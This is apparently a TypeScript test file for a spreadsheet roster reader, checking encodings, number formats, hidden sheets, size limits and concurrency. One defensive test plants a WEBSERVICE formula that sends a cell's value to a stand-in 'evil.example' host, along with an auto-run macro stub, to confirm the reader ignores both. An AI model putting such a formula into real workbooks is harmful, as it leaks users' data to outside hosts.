import { unzipSync } from 'fflate';
import { expect, test } from 'vitest';
import { excelFile } from '../../../tests/support/excel-file.ts';
import { docResume, docxResume } from '../../../tests/support/resume-files.ts';
import { zip } from '../../../tests/support/zip.ts';
import { readRosterFile } from './read-roster-file.ts';
import { tableOfWorkbook } from './workbook-table.ts';

test('a file in Windows-1252 is read as such, and said to be', async () => {
  const read = (text: string, encoding?: BufferEncoding) => readRosterFile(Buffer.from(text, encoding));
  expect(await read('name\nZo\u00EB', 'latin1')).toEqual({ text: 'name\nZoë', isWindows: true, sheet: '' });
  expect(await read('\uFEFFname\nZoë')).toEqual({ text: 'name\nZoë', isWindows: false, sheet: '' });
  expect(await read('\uFEFFname\nअनीता', 'utf16le')).toEqual({
    text: 'name\nअनीता',
    isWindows: false,
    sheet: '',
  });
});

test('a workbook gives its first sheet with rows, days that can mean one day, and numbers whole', async () => {
  const batch = [
    ['Name', 'Date', 'Certificate No'],
    ['René D’Souza & Co', new Date('2026-11-03'), 482_109_375_514],
    [null, '31/11/2026', 'KA-17'],
  ];
  const text =
    'Name\tDate\tCertificate No\nRené D’Souza & Co\t2026-11-03\t482109375514\n\t31/11/2026\tKA-17\n';
  expect(await readRosterFile(excelFile({ Empty: [], Batch: batch }))).toEqual({
    text,
    isWindows: false,
    sheet: '',
  });
  const two = await readRosterFile(excelFile({ Batch: batch, Fees: [['Paid'], [1]] }));
  expect(two).toMatchObject({ text, sheet: 'Batch' });
});

const SHEET = 'xl/worksheets/sheet1.xml';
const PARTS = unzipSync(excelFile({ Batch: [['Name'], ['Asha Rao']] }));

/** A workbook of one trainee, with these parts in it. */
function workbookWith(parts: Record<string, string | Buffer>): Buffer {
  const own = Object.entries(PARTS).map(([name, part]) => [name, Buffer.from(part)]);
  return zip({ ...(Object.fromEntries(own) as Record<string, Buffer>), ...parts });
}

/** Rows as XML, with these formats for the styles 1, 2 and so on. */
function workbookOf(rows: string, ...formats: string[]): Buffer {
  const codes = formats.map((code, index) => `<numFmt numFmtId="${170 + index}" formatCode="${code}"/>`);
  const styles = formats.map((_, index) => `<xf numFmtId="${170 + index}" applyNumberFormat="1"/>`);
  const main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
  return workbookWith({
    'xl/styles.xml': `<styleSheet ${main}><numFmts>${codes.join('')}</numFmts><cellStyleXfs><xf numFmtId="0"/></cellStyleXfs><cellXfs><xf numFmtId="0"/>${styles.join('')}</cellXfs></styleSheet>`,
    [SHEET]: `<worksheet ${main}><sheetData>${rows}</sheetData></worksheet>`,
  });
}

test('a number is read as its cell shows it, with its zeros and what stands before them', async () => {
  const cells = '<c r="A1" s="1"><v>4711</v></c><c r="B1" s="2" t="n"><f>B9+1</f><v>4712</v></c>';
  const more = '<c r="C1" s="3"><v>4713</v></c><c r="D1" s="4"><v>46000</v></c><c r="E1"><v>4.714E3</v></c>';
  const formats = ['00000000', '&quot;KW/2019/&quot;0000', '#,##0', 'dd\\-mmm\\-yy'];
  const { text } = await tableOfWorkbook(workbookOf(`<row r="1">${cells}${more}</row>`, ...formats));
  expect(text).toBe('00004711\tKW/2019/4712\t4713 [...]\t2025-12-09\t4714\n');
});

test('cells with another prefix, of rich text or with signs of XML in their format are read so', async () => {
  const rows =
    '<x:row r="1"><x:c r="A1" s="1"><x:v>7</x:v></x:c><x:c r="B1" s="2"><x:v>8</x:v></x:c></x:row>';
  const { text } = await tableOfWorkbook(
    workbookOf(rows, '&quot;A&amp;B&lt;&quot;000', '&#34;KW&#x2F;&#34;000'),
  );
  expect(text).toBe('A&B<007\tKW/008\n');
});

test('rows and cells without an address follow one another', async () => {
  const name = '<c t="inlineStr"><is><t>Name</t></is></c><c/><c t="inlineStr"><is><t>Course</t></is></c>';
  const asha =
    '<c t="inlineStr"><is><t>Asha</t></is></c><c><v/></c><c t="inlineStr"><is><t>DevOps</t></is></c>';
  const { text } = await tableOfWorkbook(workbookOf(`<row>${name}</row><row></row><row>${asha}</row>`));
  expect(text).toBe('Name\t\tCourse\n\t\t\nAsha\t\tDevOps\n');
  const mixed = '<row r="2"><c r="B2"><v>1</v></c><c><v>2</v></c></row><row><c><v>3</v></c></row>';
  expect((await tableOfWorkbook(workbookOf(mixed))).text).toBe('\t\t\n\t1\t2\n3\t\t\n');
  const far = `<row><c><v>1</v></c></row>${'<row/>'.repeat(20_000)}<row><c><v>2</v></c></row>`;
  await expect(tableOfWorkbook(workbookOf(far))).rejects.toThrow('A cell far away (A20002) has content');
});

test('text that XML marks as such is read as it is', async () => {
  const cell = (at: string, text: string) => `<c r="${at}" t="inlineStr"><is><t>${text}</t></is></c>`;
  const rows = `<row r="1">${cell('A1', '<![CDATA[Rao & <Sons>]]>')}${cell('B1', 'A<![CDATA[]]>B')}${cell('C1', '<![CDATA[x]]><![CDATA[y]]>')}</row>`;
  expect((await tableOfWorkbook(workbookOf(rows))).text).toBe('Rao & <Sons>\tAB\txy\n');
  await expect(tableOfWorkbook(workbookOf('<row><c><![CDATA['.repeat(100_000)))).rejects.toThrow(
    'could not be read as an Excel workbook',
  );
});

test('a cell is one line, so each row is the line of its number', async () => {
  const rows = [['Name of\nStudent'], [null], ['Asha\r\nRao'], ['Ravi\tDas'], ['Omar\u00A0\u2028 Khan']];
  const { text } = await tableOfWorkbook(excelFile({ Batch: rows }));
  expect(text.split('\n')).toEqual(['Name of Student', '', 'Asha Rao', 'Ravi Das', 'Omar Khan', '']);
});

test.each([
  ['an OpenDocument spreadsheet (.ods)', zip({ mimetype: 'x', 'content.xml': '<a/>' })],
  ['a binary workbook of Excel (.xlsb)', zip({ 'xl/workbook.bin': 'x' })],
  ['a table of Numbers (.numbers)', zip({ 'Index/Document.iwa': 'x' })],
])('%s is named', async (kind, file) => {
  await expect(tableOfWorkbook(file)).rejects.toThrow(
    `This is ${kind}. Open it in a spreadsheet, save it as`,
  );
});

test('a sheet of a hundred thousand cells with formats and without addresses is read in time', async () => {
  const timed = async (count: number) => {
    const row = `<row>${'<c s="1"><v>4711</v></c>'.repeat(20)}</row>`;
    const file = workbookOf(row.repeat(count), '&quot;K&quot;00000000');
    const start = performance.now();
    await tableOfWorkbook(file);
    return performance.now() - start;
  };
  expect(await timed(5_000)).toBeLessThan(10 * (await timed(1_250)));
});

test('of hidden sheets none is read, and rows that are hidden are not stored unseen', async () => {
  const two = { Choices: [['DevOps Automation']], Batch: [['Name'], ['Asha Rao'], ['Ravi Das']] };
  const files = unzipSync(excelFile(two));
  const part = (name: string) => Buffer.from(files[name] ?? []).toString();
  const hidden = {
    'xl/workbook.xml': part('xl/workbook.xml').replace('sheetId="1"', 'state="hidden" sheetId="1"'),
  };
  const kept = Object.fromEntries(
    Object.entries(files).map(([name, content]) => [name, Buffer.from(content)]),
  );
  expect(await readRosterFile(zip({ ...kept, ...hidden }))).toMatchObject({
    text: 'Name\nAsha Rao\nRavi Das\n',
    sheet: '',
  });
  const both = {
    'xl/workbook.xml': hidden['xl/workbook.xml'].replace('sheetId="2"', 'state="hidden" sheetId="2"'),
  };
  await expect(readRosterFile(zip({ ...kept, ...both }))).rejects.toThrow('The visible sheets have no rows');
  const filtered = part('xl/worksheets/sheet2.xml').replace('<row r="3">', '<row r="3" hidden="1">');
  await expect(
    readRosterFile(zip({ ...kept, ...hidden, 'xl/worksheets/sheet2.xml': filtered })),
  ).rejects.toThrow('This sheet has a hidden row with content (row 3)');
});

test('of a formula its last value is read, and a macro is left where it is', async () => {
  const sheet = Buffer.from(PARTS[SHEET] ?? []).toString();
  const formula = '<f>WEBSERVICE("http://evil.example/"&amp;A1)</f>';
  const workbook = workbookWith({
    [SHEET]: sheet.replace(/(<c r="A2"[^>]*>)/, `$1${formula}`),
    'xl/vbaProject.bin': 'Sub Workbook_Open()',
  });
  expect(await readRosterFile(workbook)).toMatchObject({ text: 'Name\nAsha Rao\n' });
});

test.each([
  [
    'an old workbook, or one with a password',
    docResume().buffer,
    'in the format of Excel 97, or has a password',
  ],
  ['a document', docxResume().buffer, 'could not be read as an Excel workbook'],
  ['half a workbook', excelFile({ A: [['Name'], ['Asha']] }).subarray(0, 900), 'could not be read'],
  [
    'a workbook that unpacks to more than a class needs',
    workbookWith({ [SHEET]: Buffer.alloc(21 * 1024 * 1024) }),
    'This workbook has more than 20 MB. Copy the rows into a new workbook, or save the sheet as',
  ],
])('%s is refused with what to do', async (_what, file, sentence) => {
  await expect(readRosterFile(file)).rejects.toThrow(sentence);
});

const withRow = (row: string) =>
  workbookWith({
    [SHEET]: Buffer.from(PARTS[SHEET] ?? [])
      .toString()
      .replace('</sheetData>', `${row}$&`),
  });

test('a cell far away is refused when it holds something, and passed over when it does not', async () => {
  const far = (value: string) => withRow(`<row r="1048576"><c r="XFD1048576" s="1">${value}</c></row>`);
  await expect(readRosterFile(far('<v>1</v>'))).rejects.toThrow(
    'A cell far away (XFD1048576) has content: delete it, or save the rows as CSV',
  );
  expect(await readRosterFile(far(''))).toMatchObject({ text: 'Name\nAsha Rao\n' });
});

test('what gets past the bounds ends the process that reads it, and no other', async () => {
  const hidden = withRow('<row r="&#49;048576"><c r="&#88;FD1048576"><v>1</v></c></row>');
  await expect(readRosterFile(hidden)).rejects.toThrow('This workbook takes too much time or memory to read');
  expect(await readRosterFile(excelFile({ Batch: [['Name'], ['Asha Rao']] }))).toMatchObject({
    text: 'Name\nAsha Rao\n',
  });
});

test('workbooks wait for one another, and so many may wait', async () => {
  const one = excelFile({ Batch: [['Name'], ['Asha Rao']] });
  const all = Array.from({ length: 9 }, () => readRosterFile(one));
  await expect(all.pop()).rejects.toThrow('Other workbooks are being read. Please try again in a minute');
  const texts = (await Promise.all(all)).map(({ text }) => text);
  expect(texts).toEqual(Array.from({ length: 8 }, () => 'Name\nAsha Rao\n'));
});
